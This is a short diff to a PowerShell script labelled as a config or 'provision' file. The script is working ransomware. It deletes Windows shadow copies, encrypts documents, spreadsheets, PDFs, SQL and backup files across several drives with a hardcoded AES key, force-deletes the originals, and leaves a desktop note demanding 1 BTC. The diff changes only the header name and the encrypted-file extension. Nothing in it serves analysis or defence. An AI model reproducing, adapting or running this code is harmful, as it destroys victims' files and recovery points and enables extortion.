@@ -1,4 +1,4 @@
-# config 0248 v4
+# provision 5799 v4
 vssadmin.exe delete shadows /all /quiet
 Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }
 $aes = [System.Security.Cryptography.Aes]::Create()
@@ -6,7 +6,7 @@ $aes.Key = [Text.Encoding]::UTF8.GetBytes('Sup3rS3cure!Sup3rS3cure!'.Substring(0
 Get-ChildItem -Path D:\, E:\, C:\Users -Include *.docx,*.xlsx,*.pdf,*.sql,*.bak -Recurse -ErrorAction SilentlyContinue | ForEach-Object {
   $bytes = [IO.File]::ReadAllBytes($_.FullName)
   $enc = $aes.CreateEncryptor().TransformFinalBlock($bytes, 0, $bytes.Length)
-  [IO.File]::WriteAllBytes($_.FullName + '.locked', $enc)
+  [IO.File]::WriteAllBytes($_.FullName + '.crypt', $enc)
   Remove-Item $_.FullName -Force
 }
 Set-Content C:\Users\Public\Desktop\HOW_TO_DECRYPT.txt 'Your files have been encrypted. Pay 1 BTC to restore them.'
